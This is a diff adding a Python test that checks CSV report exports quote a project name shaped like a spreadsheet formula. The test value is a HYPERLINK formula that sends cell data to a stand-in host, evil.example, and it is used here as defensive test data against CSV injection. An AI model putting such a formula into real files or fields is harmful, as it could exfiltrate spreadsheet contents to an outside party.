@@ -108,3 +108,16 @@ def test_the_openapi_document_describes_the_training_figures(client):
         assert "training" in schemas[report]["required"]
     assert sorted(schemas["TrainingRow"]["properties"]) == ["certifications", "key", "mentored_merges", "trainees"]
     assert sorted(schemas["TrainingFigures"]["required"]) == ["by_country", "by_project", "totals"]
+
+
+def test_a_project_name_a_spreadsheet_would_run_is_quoted_in_the_training_csv(world, client, session):
+    """A member project named like a formula: its training_project key starts with an apostrophe."""
+    import csv
+    import io
+
+    world.project.name = '=HYPERLINK("http://evil.example/?x="&A1,"Open")'
+    _two_mentored_merges_and_a_requested_claim(world, session)
+    for path in (f"/projects/{world.project.slug}/report?format=csv", "/reports?format=csv"):
+        rows = list(csv.DictReader(io.StringIO(client.get(path).get_data(as_text=True))))
+        keys = {r["key"] for r in rows if r["section"] == "training_project"}
+        assert keys == {"'" + world.project.name}
